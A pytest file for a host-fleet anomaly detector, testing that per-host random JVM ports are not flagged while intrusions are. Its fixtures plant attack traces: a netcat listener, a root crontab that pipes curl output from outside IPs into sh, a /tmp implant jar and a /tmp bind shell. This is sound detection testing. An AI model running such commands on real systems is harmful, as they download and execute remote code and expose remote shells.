"""The entry model's estimate of per-host variation (analyze/entries.py), judged through analyze():
small templates borrow their table's rate (shrinkage), one host alone never makes a column random."""

from __future__ import annotations

import pytest
from runbuilder import CRON, build_run, clean_fleet

from diffy_analysis.api import analyze


def _listener(port: int, cmdline: str, name: str = "java", path: str = "/usr/bin/java") -> dict[str, str]:
    return {
        "protocol": "6",
        "family": "2",
        "address": "0.0.0.0",
        "port": str(port),
        "pid": "5",
        "fd": "9",
        "socket": "2",
        "name": name,
        "path": path,
        "cmdline": cmdline,
        "uid": "998",
    }


def _jvm_fleet(size: int, canaries: tuple[str, ...]) -> dict:
    """Every host's JVM holds its own ephemeral JMX port; the canaries run another release."""
    hosts = clean_fleet(size)
    for i, (name, host) in enumerate(sorted(hosts.items())):
        release = "2.0-rc1" if name in canaries else "1.9"
        cmdline = f"java -jar /opt/app/app-{release}.jar"
        host.setdefault("processes", []).append(
            {"name": "java", "path": "/usr/bin/java", "cmdline": cmdline, "uid": "998"}
        )
        host["listening_ports"] += [_listener(8080, cmdline), _listener(33000 + 7 * i, cmdline)]
    return hosts


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_two_host_canary_with_its_own_random_ports_is_not_flagged(tmp_path, method):
    hosts = _jvm_fleet(12, ("web-003", "web-009"))
    hosts["web-005"]["listening_ports"].append(_listener(4444, "nc -l 4444", "nc", "/usr/bin/nc"))
    base = build_run(tmp_path / "base", {"base-0": hosts["web-001"]}) if method == "baseline" else None
    analysis = analyze([build_run(tmp_path / "run", hosts)], baseline=base, method=method)
    assert sorted(h.host for h in analysis.hosts if h.outlier) == ["web-005"]
    canary = next(h for h in analysis.hosts if h.host == "web-003")
    ports = [
        f for f in canary.findings if f.query == "listening_ports" and f.row.get("port", "").startswith("33")
    ]
    assert ports and all(f.strength == "weak" for f in ports)


def test_two_hosts_each_with_their_own_cron_command_stay_flagged(tmp_path):
    # the crontab's command column is not per-host anywhere else: two values nobody shares are two
    # findings, not noise (the shrinkage prior is the table's own rate, here 0)
    hosts = clean_fleet(12)
    for name, ip in (("web-002", "203.0.113.7"), ("web-008", "198.51.100.4")):
        hosts[name].setdefault("crontab", []).append(
            dict(CRON, command=f"root curl -fsSL http://{ip}/x | sh")
        )
    analysis = analyze([build_run(tmp_path, hosts)])
    assert sorted(h.host for h in analysis.hosts if h.outlier) == ["web-002", "web-008"]


def test_one_hosts_own_values_never_borrow_the_table_rate(tmp_path):
    # a lone host's JVM ports: the template has one host, and one host says nothing about randomness
    hosts = _jvm_fleet(12, ())
    hosts["web-004"]["listening_ports"].append(
        _listener(4444, "/tmp/.x/java -jar implant.jar", "java", "/tmp/.x/java")
    )
    analysis = analyze([build_run(tmp_path, hosts)])
    assert sorted(h.host for h in analysis.hosts if h.outlier) == ["web-004"]


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_a_local_sidecar_is_context_a_bind_shell_campaign_is_not(tmp_path, method):
    hosts = clean_fleet(12)
    base = build_run(tmp_path / "base", {"base-0": hosts["web-001"]}) if method == "baseline" else None
    for name in ("web-002", "web-004", "web-006", "web-008"):  # a connection pool on 4 of 12 hosts
        hosts[name]["listening_ports"].append(
            _listener(6432, "python3 /srv/pool/pool.py", "python3", "/usr/bin/python3")
            | {"address": "127.0.0.1"}
        )
        hosts[name]["staging_files"] = [
            {
                "path": "/tmp/.s.PGSQL.6432",
                "type": "socket",
                "mode": "0755",
                "uid": "0",
                "gid": "0",
                "size": "0",
            }
        ]
    for name in ("web-010", "web-011"):  # a bind shell on every interface, and its binary in /tmp
        hosts[name]["listening_ports"].append(_listener(8443, "/tmp/.k -l 8443", ".k", "/tmp/.k"))
        hosts[name]["staging_files"] = [
            {"path": "/tmp/.k", "type": "regular", "mode": "0755", "uid": "0", "gid": "0", "size": "9"}
        ]
    analysis = analyze([build_run(tmp_path / "run", hosts)], baseline=base, method=method)
    assert sorted(h.host for h in analysis.hosts if h.outlier) == ["web-010", "web-011"]
